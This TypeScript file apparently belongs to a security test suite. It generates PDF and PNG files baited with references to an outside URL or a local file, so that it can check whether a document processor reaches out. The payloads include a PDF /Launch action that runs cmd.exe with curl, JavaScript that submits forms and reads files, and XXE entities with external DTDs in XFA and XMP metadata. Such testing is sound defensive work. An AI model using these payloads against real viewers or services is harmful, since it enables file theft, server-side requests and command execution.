// PDFs and pictures that refer to what is outside: actions, other files, forms of XML, streams in files.
import { type PdfDict, pdfText } from '../support/pdf.ts';
import { line, linkTo, pdfOf, textField, uriAction } from '../support/pdf-document.ts';
import { pngOf, pngRows } from '../support/pictures.ts';
import { type Bait, type BaitedDocuments, visible } from './bait.ts';

export function baitedPdfs({ url, file, fileUrl, share }: Bait): BaitedDocuments {
  const text = line(72, 700, visible);
  const linked = (...actions: readonly PdfDict[]) =>
    pdfOf([{ content: text, annotations: actions.map((action) => linkTo(action, [70, 695, 140, 715])) }], {
      catalog: { OpenAction: actions[0] ?? {} },
    });
  const other = (at: string): PdfDict => ({ Type: '/Filespec', FS: '/URL', F: pdfText(at), UF: pdfText(at) });
  const xfa = `<!DOCTYPE x [<!ENTITY e SYSTEM "${fileUrl}"><!ENTITY % p SYSTEM "${url}/xfa.dtd">%p;]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform><draw><value><text>&e;</text></value></draw><field><ui><imageEdit data="link"/></ui><value><image href="${url}/xfa.png"/></value></field></subform></template></xdp:xdp>`;
  return {
    'pdf: addresses': ['a.pdf', linked(uriAction(`${url}/uri`), uriAction(fileUrl), uriAction(share))],
    'pdf: another document': [
      'a.pdf',
      linked(
        { S: '/GoToR', F: other(`${url}/r.pdf`), D: [0, '/Fit'] },
        { S: '/GoToE', F: pdfText(file), T: { R: '/C', N: pdfText('x') } },
      ),
    ],
    'pdf: a program': [
      'a.pdf',
      linked({ S: '/Launch', F: pdfText(file), Win: { F: pdfText('cmd.exe'), P: pdfText(`/c curl ${url}`) } }),
    ],
    'pdf: a form that is sent': [
      'a.pdf',
      linked({ S: '/SubmitForm', F: other(`${url}/submit`), Flags: 4 }, { S: '/ImportData', F: pdfText(file) }),
    ],
    'pdf: scripts': [
      'a.pdf',
      linked({
        S: '/JavaScript',
        JS: pdfText(`app.launchURL("${url}/js"); this.submitForm("${url}/form"); util.readFileIntoStream("${file}")`),
      }),
    ],
    'pdf: a form of XML': [
      'a.pdf',
      pdfOf([{ content: text }], (pdf) => ({
        catalog: { NeedsRendering: 'true', AcroForm: { Fields: [], XFA: [pdfText('xdp'), pdf.stream(xfa)] } },
      })),
    ],
    'pdf: a field with actions': [
      'a.pdf',
      pdfOf([{ content: text }], (pdf) => ({
        catalog: {
          URI: { Base: pdfText(url) },
          AcroForm: { Fields: [textField(pdf, 'n', 'v', [72, 600, 300, 620])], DA: pdfText('/F1 10 Tf') },
          AA: { WC: uriAction(`${url}/close`) },
        },
      })),
    ],
    'pdf: content in a file': [
      'a.pdf',
      pdfOf([
        (pdf) => ({
          content: text,
          entries: {
            Contents: [
              pdf.stream(text),
              pdf.add({ F: pdfText(file) }, Buffer.from('')),
              pdf.add({ F: other(`${url}/stream`) }, Buffer.from('')),
            ],
          },
        }),
      ]),
    ],
    'pdf: a page of another document': [
      'a.pdf',
      pdfOf([
        (pdf) => ({
          content: `${text}/X Do`,
          resources: {
            XObject: {
              X: pdf.add(
                {
                  Type: '/XObject',
                  Subtype: '/Form',
                  BBox: [0, 0, 9, 9],
                  Ref: { F: other(fileUrl), Page: 0 },
                  OPI: { '2.0': { F: other(`${url}/opi`) } },
                },
                Buffer.from(''),
              ),
            },
          },
        }),
      ]),
    ],
    'pdf: film and threads': [
      'a.pdf',
      pdfOf([
        {
          content: text,
          annotations: [
            {
              Type: '/Annot',
              Subtype: '/Movie',
              Rect: [0, 0, 99, 99],
              Movie: { F: other(`${url}/m.avi`), Poster: 'true' },
            },
            {
              Type: '/Annot',
              Subtype: '/Screen',
              Rect: [0, 0, 99, 99],
              A: {
                S: '/Rendition',
                OP: 0,
                R: { S: '/MR', C: { S: '/MCD', D: other(`${url}/r`), CT: pdfText('video/mp4') } },
              },
            },
            linkTo({ S: '/Thread', F: pdfText(file), D: 0 }, [0, 0, 9, 9]),
          ],
        },
      ]),
    ],
    'pdf: metadata with an entity': [
      'a.pdf',
      pdfOf([{ content: text }], (pdf) => ({
        catalog: { Metadata: pdf.add({ Type: '/Metadata', Subtype: '/XML' }, Buffer.from(xmp(fileUrl, url))) },
      })),
    ],
    'png: metadata with an entity': ['a.png', pngWithText('XML:com.adobe.xmp', xmp(fileUrl, url))],
  };
}

const xmp = (fileUrl: string, url: string): string =>
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${fileUrl}"><!ENTITY % p SYSTEM "${url}/xmp.dtd">%p;]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li>${visible} &e;</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>`;

/** A small picture with an iTXt chunk (PNG, 11.3.3.4). */
function pngWithText(keyword: string, text: string): Buffer {
  const body = Buffer.concat([Buffer.from(keyword), Buffer.alloc(5), Buffer.from(text)]);
  const rows = pngRows(Array.from({ length: 32 }, () => new Uint8Array(32).fill(255)));
  return pngOf({ width: 32, height: 32 }, rows, [['iTXt', body]]);
}
